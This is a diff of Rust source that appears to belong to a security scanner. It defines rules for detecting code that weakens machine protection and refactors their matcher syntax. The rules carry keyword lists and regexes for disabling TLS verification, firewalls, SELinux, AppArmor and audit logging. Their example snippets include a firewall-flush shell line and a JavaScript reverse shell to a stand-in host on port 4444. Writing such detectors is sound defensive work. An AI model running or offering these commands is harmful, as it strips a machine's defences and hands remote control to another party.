@@ -1,4 +1,4 @@
-//! PA2xx, part 3: weaker protection of the machine. Part 1 is in [`super::code`].
+//! Rules PA223–PA228 and PA232: weaker protection of the machine.
 
 use crate::finding::{Family, FindingSeverity::*};
 use crate::rule::{
@@ -29,7 +29,7 @@ const SHELL_STREAM: Pattern = pattern(
     ],
 );
 
-/// Disabling certificate checks for one process or all processes of a session.
+/// Keywords of PA223 and PA224, which disable certificate checks.
 const TLS_KEYWORDS: &str = "\
     node_tls_reject_unauthorized,sslverify,git_ssl_no_verify,pythonhttpsverify,strict-ssl,strictssl,\
     _create_unverified_context,servercertificatevalidationcallback,certificate,\
@@ -122,21 +122,21 @@ pub(super) const RULES: &[Rule] = &[
         reason: "no installation needs both; the whole machine is unprotected afterwards",
         help: "do not run it",
         scope: Code,
-        matcher: Pair(
-            pattern(
+        matcher: Pair {
+            first: pattern(
                 "ufw,iptables,nft flush,firewalld,pfctl,setglobalstate",
                 &[
                     r"\bufw\s+(--force\s+)?disable\b|\biptables\s+(-F|--flush|-P\s+INPUT\s+ACCEPT)|\bnft\s+flush\s+ruleset|\bpfctl\s+-d\b|setglobalstate\s+off|(stop|disable|mask)\s+(--now\s+)?firewalld",
                 ],
             ),
-            pattern(
+            second: pattern(
                 "setenforce,selinux=,apparmor,auditd,auditctl,fail2ban,rsyslog,spctl,csrutil",
                 &[
                     r"\bsetenforce\s+(0|permissive)\b|selinux=(disabled|permissive)|(stop|disable|mask)\s+(--now\s+)?(\S+\s+)*(apparmor|auditd|fail2ban|rsyslog)|\bauditctl\s+-e\s*0|spctl\s+--(master|global)-disable|csrutil\s+disable",
                 ],
             ),
-            8,
-        ),
+            max_lines: 8,
+        },
         example: example(
             "scripts/a.sh",
             "#!/bin/sh\nsudo iptables --flush INPUT; sudo systemctl stop --now snapd fail2ban\n",
@@ -174,7 +174,7 @@ pub(super) const RULES: &[Rule] = &[
         reason: "it gives another machine full control over the user's account",
         help: "do not run it",
         scope: Code,
-        matcher: Pair(CONNECTS, SHELL_STREAM, 12),
+        matcher: Pair { first: CONNECTS, second: SHELL_STREAM, max_lines: 12 },
         example: example(
             "scripts/a.js",
             "const client = net.connect(4444, \"peer.collect.example\");\nconst sh = cp.spawn(\"/bin/sh\", []);\nclient.pipe(sh.stdin);\n",
